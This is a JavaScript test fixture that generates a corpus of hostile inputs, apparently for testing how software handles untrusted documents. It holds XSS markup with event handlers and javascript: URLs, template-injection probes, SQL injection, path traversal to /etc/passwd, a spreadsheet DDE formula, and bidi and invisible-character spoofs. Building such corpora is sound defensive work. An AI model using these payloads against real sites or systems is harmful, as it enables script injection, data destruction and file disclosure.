// What might a hostile document hold? More than two hundred texts, made here: markup, scripts, directions, unseen characters.

const canary = 'http://127.0.0.1:9/canary';
const tags = [
  'img',
  'svg',
  'iframe',
  'script',
  'video',
  'audio',
  'object',
  'embed',
  'body',
  'input',
  'form',
  'link',
  'meta',
  'base',
  'style',
  'math',
  'template',
  'details',
  'marquee',
  'textarea',
];
const handlers = [
  'onerror',
  'onload',
  'onfocus',
  'onmouseover',
  'ontoggle',
  'onanimationstart',
  'onpointerenter',
];
const wraps = [
  (s) => s,
  (s) => `">${s}`,
  (s) => `'>${s}`,
  (s) => `</textarea>${s}`,
  (s) => `</title>${s}`,
  (s) => `<!--${s}-->`,
  (s) => `\`}${s}{\``,
];

const markup = tags.flatMap((tag) => [
  `<${tag} src=${canary} href=${canary}>`,
  `<${tag} ${handlers[tag.length % handlers.length]}=fetch('${canary}') autofocus tabindex=0>`,
  `<${tag}/src="javascript:window.__hit=1">`,
  `<${tag.toUpperCase()}\t${handlers[(tag.length + 3) % handlers.length].toUpperCase()}="window.__hit=1" style="background:url(${canary})">`,
]);
const scripts = wraps.flatMap((wrap) => [
  wrap(`<script>window.__hit=1;fetch('${canary}')</script>`),
  wrap(`<svg><script href="data:text/javascript,window.__hit=1"/></svg>`),
  wrap(`<math><mtext><table><mglyph><style><img src=${canary} onerror=window.__hit=1>`),
  wrap(`<a href="javascript:window.__hit=1" id=target>x</a>`),
  wrap(`<svg><animate onbegin=window.__hit=1 attributeName=x dur=1s>`),
  wrap('<iframe srcdoc="<script>parent.__hit=1</script>"></iframe>'),
]);
const templates = [
  '{{7*7}}',
  '${window.__hit=1}',
  '#{7*7}',
  '<%= 7*7 %>',
  '{%raw%}',
  '[[x|html]]',
  '&lt;script&gt;',
  '&#60;img src=x onerror=window.__hit=1&#62;',
  '\\u003cscript\\u003e',
  '%3Cscript%3E',
  'javascript:window.__hit=1',
  'data:text/html,<script>window.__hit=1</script>',
  '__proto__',
  'constructor',
  '<style>@import url(http://127.0.0.1:9/canary)</style>',
  'expression(window.__hit=1)',
  `url(${canary})`,
  '<link rel=prefetch href=http://127.0.0.1:9/canary>',
  '<meta http-equiv=refresh content="0;url=http://127.0.0.1:9/canary">',
  '<base href=http://127.0.0.1:9/>',
];
const bidi = [0x202a, 0x202b, 0x202d, 0x202e, 0x2066, 0x2067, 0x2068, 0x200e, 0x200f, 0x61c].flatMap(
  (code) => [
    `قُتل ${String.fromCodePoint(code)}12 شخصا`,
    `${String.fromCodePoint(code)}${String.fromCodePoint(code)}ناطق رسمي`,
    `بيان ${String.fromCodePoint(code)}gpj.exe`,
    `وكالة${String.fromCodePoint(code)}`,
  ],
);
const unseen = [0x200b, 0xad, 0x2060, 0xfeff, 0xe0041, 0x1, 0x7, 0x1b, 0x7f, 0x85, 0x9b, 0x2028].map(
  (code) => `قصف${String.fromCodePoint(code)}ت البلدة`,
);
const odd = [
  "'; DROP TABLE claims; --",
  '%s%n%x',
  '../../etc/passwd',
  "=cmd|' /C calc'!A0",
  'ا'.repeat(3000),
  `ا${'\u0651'.repeat(500)}`,
  '\ud83d\ude00'.repeat(50),
  '<'.repeat(400),
  '"'.repeat(400),
  'A'.repeat(5000),
];

export const payloads = [...markup, ...scripts, ...templates, ...bidi, ...unseen, ...odd];
